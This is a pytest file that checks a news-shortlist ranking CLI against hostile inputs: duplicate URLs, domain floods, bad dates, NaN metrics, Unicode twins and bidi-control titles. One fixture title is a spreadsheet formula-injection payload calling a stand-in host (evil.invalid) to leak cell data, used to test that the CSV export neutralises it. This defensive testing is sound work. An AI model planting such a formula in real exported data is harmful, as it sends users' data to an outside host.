"""Ranking (RELIABILITY 2.5): `rank --week W` on a store built from hostile raw files.

The store is filled the way the nightly fills it (raw JSONL -> ingest), with the bad
inputs of the catalogue: URL variants of one article, a flooding domain, impossible
dates, NaN-ish metrics, empty and 10 MB titles, NFD and full-width twins, a formula
title, an already-featured link. `rank` runs in-process through ranking.cli.main.
"""

from __future__ import annotations

import csv
import hashlib
import io
import math
from pathlib import Path

import duckdb
import pytest

from faults.report import STATE, figure
from faults.test_storage import cand, write_raw
from ranking.shortlist import SHORTLIST_COLUMNS

FEED_FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "parsers" / "feeds"
WEEK = "2026-W46"  # Monday 9 - Sunday 15 November 2026
SEEN = "2026-11-12T10:00:00Z"


def item(url: str, title: str, source: str = "src-a", **kw) -> dict:
    return cand(url, title=title, source=source, fetched_at=kw.pop("fetched_at", SEEN), **kw)


def records() -> list[dict]:
    recs = []
    # R4: one article under six spellings, from three sources.
    for i, url in enumerate(
        [
            "https://variant.example/post",
            "http://www.variant.example/post/",
            "https://variant.example/post?utm_source=rss&utm_medium=feed",
            "https://variant.example/post#comments",
            "https://VARIANT.example:443/post",
            "https://variant.example/post/?utm_campaign=x",
        ]
    ):
        from crawler.urls import canonical_url

        recs.append(
            item(
                url,
                "One article, many URLs",
                source=f"src-{'abc'[i % 3]}",
                canonical_url=canonical_url(url),
                points=10,
            )
        )
    # R6: a flood of one domain.
    recs += [item(f"https://flood.example/p/{i}", f"Flood post number {i} about asyncio {i * 7}")
             for i in range(25)]  # fmt: skip
    # R3: dates.
    recs.append(
        item(
            "https://dates.example/future",
            "Future dated post",
            published="2099-01-01T00:00:00",
            date_flag="out_of_range",
        )
    )
    recs.append(
        item("https://dates.example/none", "Undated post", published=None, date_flag="missing")
    )
    recs.append(
        item(
            "https://dates.example/ancient",
            "Ancient post",
            published="1970-01-01T00:00:00",
            date_flag="out_of_range",
        )
    )
    # R7: absurd metrics and titles.
    recs.append(
        item(
            "https://nan.example/1",
            "Metrics out of range",
            stars="NaN",
            points="inf",
            comments=10**30,
        )
    )
    recs.append(item("https://big.example/1", "B" * 10_000_000))
    recs.append(item("https://empty.example/1", ""))
    # R9: NFC/NFD and full-width twins.
    recs.append(item("https://twin-a.example/cafe", "Café culture in Python packaging"))
    recs.append(item("https://twin-b.example/cafe", "Cafe\u0301 culture in Python packaging"))
    recs.append(
        item("https://twin-c.example/fw", "Ｐｙｔｈｏｎ ３．１４ released with free threading")
    )
    recs.append(item("https://twin-d.example/fw", "Python 3.14 released with free threading"))
    # C1 through the real shortlist: a formula title.
    recs.append(item("https://formula.example/1", '=HYPERLINK("http://evil.invalid/?"&A1,"click")'))
    # R5: featured in a past issue.
    recs.append(item("https://featured.example/already", "Already featured article"))
    # Plenty of ordinary candidates so the sections fill.
    recs += [item(f"https://blog{i}.example/post", f"Ordinary post {i} on typing and testing")
             for i in range(30)]  # fmt: skip
    recs += [item(f"https://github.com/owner{i}/repo{i}", f"owner{i}/repo{i}: a tool", section="project",
                  repo_key=f"github.com/owner{i}/repo{i}", stars=100 + i) for i in range(15)]  # fmt: skip
    return recs


@pytest.fixture(scope="module")
def rank_db(tmp_path_factory) -> Path:
    from ranking import store

    root = tmp_path_factory.mktemp("rankdb")
    db, raw = root / "radar.duckdb", root / "raw"
    write_raw(raw, "night.jsonl", records())
    with store.open_store(db) as con:
        report = store.ingest_raw(con, raw)
        assert report.files == 1
    return db


def add_past_issue(con) -> None:
    con.execute(
        "INSERT INTO issues (issue_no, pub_date, kind) VALUES (1, DATE '2026-10-01', 'full')"
    )
    con.execute(
        "INSERT INTO issue_items (issue_no, item_no, section, position, title_zh, url, "
        "canonical_url, host) VALUES (1, 1, 'article', 1, 'Already featured article', "
        "'https://featured.example/already', 'https://featured.example/already', "
        "'featured.example')"
    )


def rank(args: list[str], capsys) -> tuple[int, str, str]:
    from ranking.cli import main

    code = main(args)
    out, err = capsys.readouterr()
    STATE.counters[f"exit:rank:{code}"] += 1
    assert "Traceback" not in err, err
    return code, out, err


@pytest.fixture(scope="module")
def shortlist(rank_db, tmp_path_factory):
    """The shortlist CSV of WEEK, written twice (R8)."""
    out = tmp_path_factory.mktemp("out")
    from ranking.cli import main

    paths = []
    for n in (1, 2):
        path = out / f"run{n}.csv"
        code = main(["--week", WEEK, "--db", str(rank_db), "--out", str(path), "--show-featured"])
        assert code == 0
        paths.append(path)
    rows = list(csv.DictReader(io.StringIO(paths[0].read_bytes().decode("utf-8-sig"))))
    return paths, rows


FEATURED_URL = "https://featured.example/already"


def test_r5_fixture_item_is_in_the_pool(shortlist):
    _, rows = shortlist
    assert FEATURED_URL in {r["url"] for r in rows}  # no issue featured it in rank_db


def test_store_was_built_from_the_raw_file(rank_db):
    with duckdb.connect(str(rank_db), read_only=True) as con:
        n = con.execute("SELECT count(*) FROM candidates").fetchone()[0]
    assert n >= 80


@pytest.mark.case("R8", "G15")
def test_r8_two_runs_give_a_byte_identical_csv(shortlist):
    (a, b), rows = shortlist
    same = a.read_bytes() == b.read_bytes()
    digest = hashlib.sha256(a.read_bytes()).hexdigest()[:12]
    figure(
        "G15",
        f"rank --week {WEEK} twice: byte-identical = {same} ({len(rows)} rows, sha256 {digest})",
        same,
    )
    assert same and rows


@pytest.mark.case("R4")
def test_r4_url_variants_are_one_candidate_with_sources_unioned(shortlist, rank_db):
    with duckdb.connect(str(rank_db), read_only=True) as con:
        n = con.execute(
            "SELECT count(*) FROM candidates WHERE host = 'variant.example'"
        ).fetchone()[0]
    assert n == 1
    _, rows = shortlist
    hits = [r for r in rows if "variant.example" in r["url"]]
    assert len(hits) <= 1
    if hits:
        assert all(s in hits[0]["sources"] for s in ("src-a", "src-b", "src-c"))


@pytest.mark.case("R6")
def test_r6_one_domain_cannot_flood_the_shortlist(shortlist):
    from ranking.shortlist import DEFAULT_DOMAIN_CAP

    _, rows = shortlist
    flood = [r for r in rows if "flood.example" in r["url"]]
    assert 1 <= len(flood) <= DEFAULT_DOMAIN_CAP


def flagged_records() -> list[dict]:
    """Raw records with dates and titles the curator must be warned about, laid out as the
    crawler writes them (`candidate_record`); the titles come from the real feed parser."""
    from crawler.parsers import PARSERS
    from crawler.pipelines import clean_candidate
    from crawler.runstate import candidate_record
    from crawler.sources import Source

    recs = [
        # Twins but for the date: a normal one and an unflagged date 70 years ahead.
        item("https://dates.example/normal", "Dated post", published="2026-11-11T08:00:00Z"),
        item("https://dates.example/future", "Dated post", published="2099-01-01T00:00:00Z"),
        # As the crawler's parse_date flags them (no `published`).
        item("https://flagged.example/none", "Undated post", date_flag="missing"),
        item("https://flagged.example/ancient", "Ancient post", date_flag="out_of_range"),
    ]
    feed = FEED_FIXTURES / "bidi_nul_title.xml"
    source = Source(name="edge-feed", kind="feed", url="https://edge.example/feed.xml")
    for c in PARSERS["feed"](feed.read_bytes(), {}, source):
        assert clean_candidate(c) is None
        recs.append(candidate_record("r1", "edge-feed", "feed", SEEN, c))
    return recs


@pytest.fixture(scope="module")
def flagged_shortlist(tmp_path_factory) -> tuple[Path, dict[str, dict[str, str]]]:
    """A store built by the real ingest of `flagged_records`, ranked by `rank --week`:
    (the database, the CSV's rows by URL)."""
    from ranking import store
    from ranking.cli import main

    root = tmp_path_factory.mktemp("flagged")
    db, raw, out = root / "radar.duckdb", root / "raw", root / "shortlist.csv"
    write_raw(raw, "night.jsonl", flagged_records())
    with store.open_store(db) as con:
        assert store.ingest_raw(con, raw).bad_rows == 0
    assert main(["--week", WEEK, "--db", str(db), "--out", str(out)]) == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text("utf-8-sig"))))
    return db, {r["url"]: r for r in rows}


@pytest.mark.case("R3", "G13")
def test_r3_bad_dates_get_no_recency_boost_are_flagged_and_stay_rankable(flagged_shortlist):
    _, rows = flagged_shortlist
    normal, future = rows["https://dates.example/normal"], rows["https://dates.example/future"]
    missing, ancient = rows["https://flagged.example/none"], rows["https://flagged.example/ancient"]
    assert all(r["rank"] for r in (future, missing, ancient))  # still rankable
    boosted = sum(float(future[col]) > float(normal[col]) for col in ("freshness", "score", "base"))
    figure(
        "G13",
        "an item dated 2099 ranked against its twin with a normal date: "
        f"{boosted} of freshness, score, base higher; flagged {future['flags']!r}",
        boosted == 0,
    )
    assert boosted == 0
    assert future["flags"] == "date in the future"
    assert normal["flags"] == ""
    assert missing["flags"] == "date missing"
    assert ancient["flags"] == "date out of range"


@pytest.mark.case("P14")
def test_p14_a_title_cleaned_of_bidi_controls_is_flagged_in_the_shortlist(flagged_shortlist):
    _, rows = flagged_shortlist
    bidi, zero_width = rows["https://edge.example/bidi"], rows["https://edge.example/nul"]
    assert bidi["title"] == "Safe evil namex"  # U+202E, U+202C, U+2066, U+2069 removed
    assert bidi["flags"] == "date missing; title had bidi controls"
    assert zero_width["flags"] == "date missing; title had zero-width characters"


def test_feedback_reads_shortlists_written_with_and_without_the_flags_column(
    flagged_shortlist, tmp_path, capsys
):
    import shutil

    db, rows = flagged_shortlist
    copy = tmp_path / "radar.duckdb"
    shutil.copy(db, copy)
    for n, columns in enumerate((SHORTLIST_COLUMNS, SHORTLIST_COLUMNS[:-1])):
        path = tmp_path / f"{n}.csv"
        with path.open("w", encoding="utf-8", newline="") as fh:
            writer = csv.DictWriter(fh, columns, extrasaction="ignore", lineterminator="\n")
            writer.writeheader()
            writer.writerows({**r, "decision": "keep" if n else "reject"} for r in rows.values())
        code, out, err = rank(["feedback", str(path), "--db", str(copy)], capsys)
        assert code == 0, err
        assert f"{len(rows)} decisions stored" in out


@pytest.mark.case("R5")
def test_r5_already_featured_is_matched_with_the_reason(tmp_path):
    import pandas as pd

    from ranking import store
    from ranking.pool import featured_matches

    with store.open_store(tmp_path / "h.duckdb") as con:
        add_past_issue(con)
        items, _links = store.history_frames(con)
    frame = pd.DataFrame(
        {
            "member_urls": [["https://featured.example/already"], ["https://new.example/"]],
            "repo_key": [None, None],
            "title": ["Some other title", "A brand new article"],
        }
    )
    got = featured_matches(frame, items)
    assert got["featured_issue"].iloc[0] == 1 and "featured in #1" in got["featured_reason"].iloc[0]
    assert got["featured_reason"].iloc[1] == ""


@pytest.mark.case("R5")
def test_r5_already_featured_is_excluded_end_to_end(rank_db, shortlist, tmp_path, capsys):
    import shutil

    from ranking import store

    _, rows = shortlist
    assert FEATURED_URL in {r["url"] for r in rows}  # on the shortlist until featured
    db = tmp_path / "copy.duckdb"
    shutil.copy(rank_db, db)
    with store.open_store(db) as con:
        add_past_issue(con)
    out_csv = tmp_path / "shortlist.csv"
    code, out, _ = rank(["--week", WEEK, "--db", str(db), "--out", str(out_csv)], capsys)
    assert code == 0
    after = csv.DictReader(io.StringIO(out_csv.read_bytes().decode("utf-8-sig")))
    assert FEATURED_URL not in {r["url"] for r in after}  # excluded
    assert FEATURED_URL not in out  # and not listed without --show-featured
    code, out, _ = rank(
        ["--week", WEEK, "--db", str(db), "--format", "table", "--show-featured"], capsys
    )
    assert code == 0
    assert f"url featured in #1: Already featured article <{FEATURED_URL}>" in out


@pytest.mark.case("R7", "C3")
def test_r7_no_nan_in_the_output_and_titles_truncated(shortlist):
    (a, _), rows = shortlist
    text = a.read_bytes().decode("utf-8-sig")
    for bad in ("nan", "NaN", "inf"):
        assert f",{bad}," not in text
    assert all(len(r["title"]) <= 2000 for r in rows)
    for r in rows:
        for key in ("score", "stars", "points", "comments"):
            if r.get(key):
                assert math.isfinite(float(r[key])), (key, r[key])


@pytest.mark.case("R9")
def test_r9_nfd_and_full_width_twins_are_duplicates(shortlist):
    _, rows = shortlist
    cafe = [r for r in rows if "twin-a" in r["url"] or "twin-b" in r["url"]]
    fw = [r for r in rows if "twin-c" in r["url"] or "twin-d" in r["url"]]
    assert len(cafe) <= 1 and len(fw) <= 1


@pytest.mark.case("C1", "C4", "C5", "G11")
def test_shortlist_csv_is_excel_safe(shortlist):
    (a, _), rows = shortlist
    data = a.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf") and b"\r\n" not in data
    formula = [r for r in rows if "formula.example" in r["url"]]
    for r in rows:
        for value in r.values():
            first = (value or "")[:1]
            assert not first or first not in "=+-@\t\r\n" or (first == "-" and _number(value))
        assert r["id"].startswith("c-")
    if formula:
        assert formula[0]["title"].startswith("'=")


def _number(value: str) -> bool:
    try:
        float(value)
    except ValueError:
        return False
    return True


@pytest.mark.case("R2")
@pytest.mark.parametrize("week", ["2020-W10", "2031-W01"])
def test_r2_a_week_without_candidates_gives_a_header_and_a_message(rank_db, tmp_path, capsys, week):
    out = tmp_path / "empty.csv"
    code, _, err = rank(["--week", week, "--db", str(rank_db), "--out", str(out)], capsys)
    assert code == 0
    assert f"0 candidates for week {week}" in err
    lines = out.read_bytes().decode("utf-8-sig").splitlines()
    assert len(lines) == 1 and lines[0].startswith("week,id,")


@pytest.mark.case("R1")
def test_r1_bad_options_are_usage_errors(rank_db, capsys):
    for args in (["--week", WEEK, "--quota", "nope=3"], ["--week", WEEK, "--window-days", "0"]):
        code, _, err = rank([*args, "--db", str(rank_db)], capsys)
        assert code == 2
        assert len([x for x in err.splitlines() if x.startswith("rank: error:")]) == 1


@pytest.mark.case("R5", "G2")
def test_r5_an_issue_older_than_every_sighting_does_not_crash_the_ranking(tmp_path, capsys):
    from ranking import store

    db, raw = tmp_path / "radar.duckdb", tmp_path / "raw"
    write_raw(raw, "night.jsonl", [item(f"https://x{i}.example/p", f"Post {i}") for i in range(20)])
    with store.open_store(db) as con:
        store.ingest_raw(con, raw)
        con.execute(
            "INSERT INTO issues (issue_no, pub_date, kind) VALUES (1, DATE '2020-01-01', 'full')"
        )
        con.execute(
            "INSERT INTO issue_items (issue_no, item_no, section, position, title_zh, url, "
            "canonical_url, host) VALUES (1, 1, 'article', 1, 'Old', 'https://old.example/', "
            "'https://old.example/', 'old.example')"
        )
    from ranking.cli import main

    assert main(["--week", WEEK, "--db", str(db), "--out", str(tmp_path / "o.csv")]) == 0


@pytest.mark.case("R7", "G2")
def test_r7_a_pool_without_any_repository_ranks(tmp_path):
    from ranking import store
    from ranking.cli import main

    db, raw = tmp_path / "radar.duckdb", tmp_path / "raw"
    write_raw(raw, "night.jsonl", [item(f"https://x{i}.example/p", f"Post {i}") for i in range(20)])
    with store.open_store(db) as con:
        store.ingest_raw(con, raw)
    assert main(["--week", WEEK, "--db", str(db), "--out", str(tmp_path / "o.csv")]) == 0
